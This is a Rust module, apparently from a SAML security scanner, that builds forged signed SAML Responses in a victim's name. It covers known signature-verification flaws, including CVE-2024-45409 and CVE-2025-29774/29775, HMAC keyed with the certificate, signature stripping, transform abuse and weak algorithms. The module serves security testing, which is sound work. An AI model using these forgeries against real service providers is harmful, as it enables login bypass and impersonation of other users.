//! Attacks on how a signature is read: what it covers, what was digested, and whose key it is.

use alloc::{
    format,
    string::{String, ToString},
    vec,
    vec::Vec,
};

use ring::digest;

use super::{
    Genuine, Message,
    document::{Document, escaped},
    hand::{
        HMAC_SHA256, Recipe, Reference, SHA1, digest_of, digest_of_bytes, signed_by_hand, transform,
        transforms_with,
    },
    wrapping::status_detail,
};
use crate::{
    dsig,
    pki::SigningKey,
    saml::names::{PROTOCOL, SIGNATURE},
};

type Messages = Vec<Message>;

fn forms(documents: impl IntoIterator<Item = String>) -> Messages {
    documents.into_iter().map(|xml| Message::form(&xml)).collect()
}

/// The signed Assertion says somebody else's name: the digest is wrong, and each attack hides that in another way.
struct Renamed {
    /// The genuine Response.
    genuine: Document,
    /// With another NameID.
    document: Document,
    signature: String,
    /// The digest that would be right, if it were signed.
    digest: String,
}

fn renamed(genuine: &Genuine<'_>) -> Option<Renamed> {
    let signed = genuine.document.assertion_signed()?;
    let document = Document::read(&signed.renamed(&escaped(genuine.victim))).ok()?;
    let digest = digest_of(&document.source, &document.assertion.id, &digest::SHA256)?;
    Some(Renamed { signature: document.assertion_signature().into(), genuine: signed, document, digest })
}

/// The changed Response with a changed signature, for each that `make` gives.
fn each(genuine: &Genuine<'_>, make: impl FnOnce(&Renamed) -> Vec<String>) -> Messages {
    let Some(renamed) = renamed(genuine) else { return Vec::new() };
    let Some(place) = renamed.document.assertion.signature.clone() else { return Vec::new() };
    let signatures = make(&renamed);
    forms(signatures.iter().map(|signature| renamed.document.edited(vec![(place.clone(), signature)])))
}

/// The first part of `text` from `<…name` to its end tag, whatever its prefix is.
fn element<'t>(text: &'t str, name: &str) -> Option<&'t str> {
    let mut at = 0;
    let (start, end_tag) = loop {
        let start = at + text.get(at..)?.find('<')?;
        let tag = text.get(start + 1..)?;
        let qualified = tag.split(|c: char| c.is_whitespace() || c == '>' || c == '/').next()?;
        if qualified.rsplit(':').next() == Some(name) && !qualified.is_empty() {
            break (start, format!("</{qualified}>"));
        }
        at = start + 1;
    };
    let length = text.get(start..)?.find(&end_tag)? + end_tag.len();
    text.get(start..start + length)
}

fn with_element(text: &str, name: &str, change: impl FnOnce(&str) -> String) -> Option<String> {
    let found = element(text, name)?;
    Some(text.replacen(found, &change(found), 1))
}

/// The text of an element that holds nothing else.
fn content(element: &str) -> Option<&str> {
    let (_, rest) = element.split_once('>')?;
    rest.rsplit_once("</").map(|(content, _)| content)
}

/// The right digest where a search finds it first (CVE-2024-45409).
pub(super) fn digest_elsewhere(genuine: &Genuine<'_>) -> Messages {
    let Some(Renamed { document, digest, .. }) = renamed(genuine) else { return Vec::new() };
    let planted = format!("<ds:DigestValue xmlns:ds=\"{SIGNATURE}\">{digest}</ds:DigestValue>");
    forms([status_detail(&document, &planted, document.signed_assertion())])
}

/// Signed metadata, which an identity provider gives to everybody, as donor.
pub(super) fn signed_metadata(genuine: &Genuine<'_>) -> Messages {
    let (Some(key), Some(unsigned)) = (genuine.idp_key, genuine.document.unsigned()) else {
        return Vec::new();
    };
    let metadata = "<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" ID=\"_metadata\" \
                    entityID=\"https://idp.example\"><md:Organization/></md:EntityDescriptor>";
    let Ok(donor) = dsig::sign(metadata, "_metadata", key) else { return Vec::new() };
    let forged = unsigned.forged(genuine.victim, "");
    let hosted = format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL}\">{donor}</samlp:Extensions>");
    let transplanted = element(&donor, "Signature").unwrap_or_default();
    forms([
        unsigned.around_with_head(&hosted, &forged),
        unsigned.around(&unsigned.forged(genuine.victim, transplanted)),
    ])
}

/// The Signature in a namespace that one parser takes for XML-DSig and another does not.
pub(super) fn look_alike_namespace(genuine: &Genuine<'_>) -> Messages {
    each(genuine, |it| {
        let other = it.signature.replacen(SIGNATURE, "http://www.w3.org/2000/09/XMLDSIG#", 1);
        if other == it.signature { Vec::new() } else { vec![other] }
    })
}

/// Reserved prefixes that make one parser lose the Signature.
pub(super) fn reserved_prefixes(genuine: &Genuine<'_>) -> Messages {
    each(genuine, |it| {
        ["xml:xmlns=\"urn:x\"", "xmlns:xml=\"urn:x\"", "xmlns:xmlns=\"urn:x\""]
            .map(|attribute| it.signature.replacen(' ', &format!(" {attribute} "), 1))
            .into()
    })
}

/// What cannot be canonicalized, with the digest of nothing, signed.
pub(super) fn digest_of_nothing(genuine: &Genuine<'_>) -> Messages {
    void(genuine, |nothing, id| Recipe::of(Reference::to(id, nothing)))
}

/// A signature over nothing, which stands for every SignedInfo that cannot be canonicalized.
pub(super) fn signature_of_nothing(genuine: &Genuine<'_>) -> Messages {
    void(genuine, |nothing, id| Recipe {
        message: Some(""),
        declaration: " xmlns:ns=\"1\"",
        ..Recipe::of(Reference::to(id, nothing))
    })
}

fn void(genuine: &Genuine<'_>, recipe: impl FnOnce(String, &str) -> Recipe) -> Messages {
    let (Some(key), Some(unsigned)) = (genuine.idp_key, genuine.document.unsigned()) else {
        return Vec::new();
    };
    let id = &unsigned.assertion.id;
    let signature = recipe(digest_of_bytes(b"", &digest::SHA256), id).signature(key);
    let forged = unsigned.forged_as(id, genuine.victim, &signature);
    forms([unsigned.around(&forged.replacen(' ', " xmlns:ns=\"1\" ", 1))])
}

/// Two SignedInfo: one was signed, the other has the right digest (CVE-2025-29774).
pub(super) fn two_signed_infos(genuine: &Genuine<'_>) -> Messages {
    each(genuine, |it| {
        let Some(genuine_info) = element(&it.signature, "SignedInfo") else { return Vec::new() };
        let forged = with_element(genuine_info, "DigestValue", |value| {
            content(value).map_or_else(String::new, |digest| value.replacen(digest, &it.digest, 1))
        });
        let Some(forged) = forged else { return Vec::new() };
        [format!("{forged}{genuine_info}"), format!("{genuine_info}{forged}")]
            .map(|both| it.signature.replacen(genuine_info, &both, 1))
            .into()
    })
}

/// The right digest in a comment, which canonicalization drops (CVE-2025-29775).
pub(super) fn comment_in_digest(genuine: &Genuine<'_>) -> Messages {
    each(genuine, |it| {
        let with = |node: String| {
            with_element(&it.signature, "DigestValue", |value| {
                content(value)
                    .map_or_else(String::new, |digest| value.replacen(digest, &format!("{node}{digest}"), 1))
            })
        };
        [with(format!("<!--{}-->", it.digest)), with(format!("<?digest {}?>", it.digest))]
            .into_iter()
            .flatten()
            .collect()
    })
}

/// One Assertion, signed by hand.
fn by_hand(genuine: &Genuine<'_>, recipes: Vec<fn(Reference) -> Recipe>) -> Messages {
    let (Some(key), Some(unsigned)) = (genuine.idp_key, genuine.document.unsigned()) else {
        return Vec::new();
    };
    forms(recipes.into_iter().filter_map(|recipe| signed_by_hand(&unsigned, key, recipe)))
}

/// A canonicalization that keeps comments.
pub(super) fn with_comments(genuine: &Genuine<'_>) -> Messages {
    const WITH_COMMENTS: &str = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
    by_hand(
        genuine,
        vec![|reference| Recipe { canonicalization: WITH_COMMENTS, ..Recipe::of(reference) }, |reference| {
            Recipe::of(Reference {
                transforms: transforms_with("").replace("xml-exc-c14n#", "xml-exc-c14n#WithComments"),
                ..reference
            })
        }],
    )
}

/// Two References, of which one fits.
pub(super) fn two_references(genuine: &Genuine<'_>) -> Messages {
    by_hand(
        genuine,
        vec![
            |reference| {
                let other = Reference::to("_other", reference.digest_value.clone());
                Recipe { references: vec![other, reference], ..Recipe::of(Reference::to("", String::new())) }
            },
            |reference| {
                let wrong = Reference::to(
                    reference.uri.trim_start_matches('#'),
                    digest_of_bytes(b"", &digest::SHA256),
                );
                Recipe { references: vec![wrong, reference], ..Recipe::of(Reference::to("", String::new())) }
            },
        ],
    )
}

/// Nothing is referenced.
pub(super) fn no_reference(genuine: &Genuine<'_>) -> Messages {
    let mut messages =
        each(genuine, |it| with_element(&it.signature, "Reference", |_| String::new()).into_iter().collect());
    if let (Some(key), Some(renamed)) = (genuine.idp_key, renamed(genuine)) {
        let recipe = Recipe { references: Vec::new(), ..Recipe::of(Reference::to("", String::new())) };
        let place = renamed.document.assertion.signature.clone();
        let signature = recipe.signature(key);
        messages
            .extend(place.map(|place| Message::form(&renamed.document.edited(vec![(place, &signature)]))));
    }
    messages
}

/// Parts of the signature are missing or empty.
pub(super) fn malformed(genuine: &Genuine<'_>) -> Messages {
    each(genuine, |it| {
        let without = ["SignedInfo", "SignatureValue", "SignatureMethod", "DigestMethod", "DigestValue"]
            .map(|name| with_element(&it.signature, name, |_| String::new()).unwrap_or_default());
        let empty = format!("<ds:Signature xmlns:ds=\"{SIGNATURE}\"/>");
        without.into_iter().filter(|signature| !signature.is_empty()).chain([empty]).collect()
    })
}

/// A signature of the identity provider over something else.
pub(super) fn of_something_else(genuine: &Genuine<'_>) -> Messages {
    let Some(key) = genuine.idp_key else { return Vec::new() };
    each(genuine, |it| {
        let donor = format!(
            "<samlp:LogoutResponse xmlns:samlp=\"{PROTOCOL}\" ID=\"_donor\" Version=\"2.0\"><samlp:Status/></samlp:LogoutResponse>"
        );
        let donor = dsig::sign(&donor, "_donor", key).unwrap_or_default();
        let signature = element(&donor, "Signature").unwrap_or_default().to_string();
        let named = signature.replace("#_donor", &format!("#{}", it.genuine.assertion.id));
        vec![signature, named]
    })
}

/// A key that the message brings along.
pub(super) fn key_in_message(genuine: &Genuine<'_>) -> Messages {
    let Some(unsigned) = renamed(genuine).and_then(|renamed| renamed.document.unsigned()) else {
        return Vec::new();
    };
    let mut documents = Vec::new();
    if let Some(attacker) = genuine.attacker_key {
        documents.extend(dsig::sign(&unsigned.source, &unsigned.assertion.id, attacker).ok());
    }
    if let Some(key) = genuine.idp_key {
        documents.extend(hmac_with_certificate(&unsigned, key));
    }
    forms(documents)
}

/// The public certificate as the secret of an HMAC (CVE-2016-1000252 and its kin): in PEM and in DER.
fn hmac_with_certificate(unsigned: &Document, key: &SigningKey) -> Vec<String> {
    let certificate = key.certificate();
    let secrets = [certificate.to_pem().into_bytes(), certificate.der().to_vec()];
    let signed = secrets.into_iter().filter_map(|secret| {
        signed_by_hand(unsigned, key, |reference| Recipe {
            method: Some(HMAC_SHA256),
            secret: Some(secret),
            ..Recipe::of(reference)
        })
    });
    signed.collect()
}

/// No signature, and what it protected changed or not.
pub(super) fn stripped(genuine: &Genuine<'_>) -> Messages {
    let Some(unsigned) = genuine.document.unsigned() else { return Vec::new() };
    forms([unsigned.renamed(&escaped(genuine.victim)), unsigned.source])
}

/// A Reference to everything, to elsewhere, or by XPointer.
pub(super) fn other_references(genuine: &Genuine<'_>) -> Messages {
    by_hand(
        genuine,
        vec![
            |reference| Recipe::of(Reference { uri: String::new(), ..reference }),
            |reference| Recipe::of(Reference { uri: "http://127.0.0.1:9/".into(), ..reference }),
            |reference| Recipe::of(Reference { uri: "#xpointer(/)".into(), ..reference }),
            |reference| {
                let id = reference.uri.trim_start_matches('#');
                Recipe::of(Reference { uri: format!("#xpointer(id('{id}'))"), ..reference })
            },
        ],
    )
}

/// Transforms that run code, take content out, or are too many.
pub(super) fn other_transforms(genuine: &Genuine<'_>) -> Messages {
    const XSLT: &str = "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
                        <xsl:template match=\"/\"></xsl:template></xsl:stylesheet>";
    const XPATH: &str = "<ds:XPath>not(ancestor-or-self::*[local-name()='NameID'])</ds:XPath>";
    by_hand(
        genuine,
        vec![
            |reference| {
                Recipe::of(Reference {
                    transforms: transform("http://www.w3.org/TR/1999/REC-xslt-19991116", XSLT)
                        + &reference.transforms,
                    ..reference
                })
            },
            |reference| {
                Recipe::of(Reference {
                    transforms: transform("http://www.w3.org/TR/1999/REC-xpath-19991116", XPATH)
                        + &reference.transforms,
                    ..reference
                })
            },
            |reference| {
                Recipe::of(Reference {
                    transforms: reference.transforms.clone()
                        + &transform("http://www.w3.org/2000/09/xmldsig#base64", ""),
                    ..reference
                })
            },
            |reference| Recipe::of(Reference { transforms: reference.transforms.repeat(500), ..reference }),
        ],
    )
}

/// A PrefixList that is no list of prefixes, or endless.
pub(super) fn prefix_lists(genuine: &Genuine<'_>) -> Messages {
    fn list(prefixes: &str) -> String {
        transforms_with(&format!(
            "<ec:InclusiveNamespaces xmlns:ec=\"{}\" PrefixList=\"{prefixes}\"></ec:InclusiveNamespaces>",
            super::hand::EXCLUSIVE
        ))
    }
    by_hand(
        genuine,
        vec![|reference| Recipe::of(Reference { transforms: list("a:b"), ..reference }), |reference| {
            Recipe::of(Reference { transforms: list(&"p ".repeat(5000)), ..reference })
        }],
    )
}

/// Digests and signatures that can be forged (SHA-1, MD5), or names of them.
pub(super) fn weak_algorithms(genuine: &Genuine<'_>) -> Messages {
    let (Some(key), Some(unsigned)) = (genuine.idp_key, genuine.document.unsigned()) else {
        return Vec::new();
    };
    let id = &unsigned.assertion.id;
    let sha1 = digest_of(&unsigned.source, id, &digest::SHA1_FOR_LEGACY_USE_ONLY);
    let with_sha1 = signed_by_hand(&unsigned, key, |reference| {
        let digest_value = sha1.unwrap_or_default();
        Recipe::of(Reference { digest_method: SHA1, digest_value, ..reference })
    });
    let named = |method| {
        signed_by_hand(&unsigned, key, |reference| Recipe { method: Some(method), ..Recipe::of(reference) })
    };
    let names =
        ["http://www.w3.org/2000/09/xmldsig#rsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"];
    forms([with_sha1].into_iter().chain(names.map(named)).flatten())
}
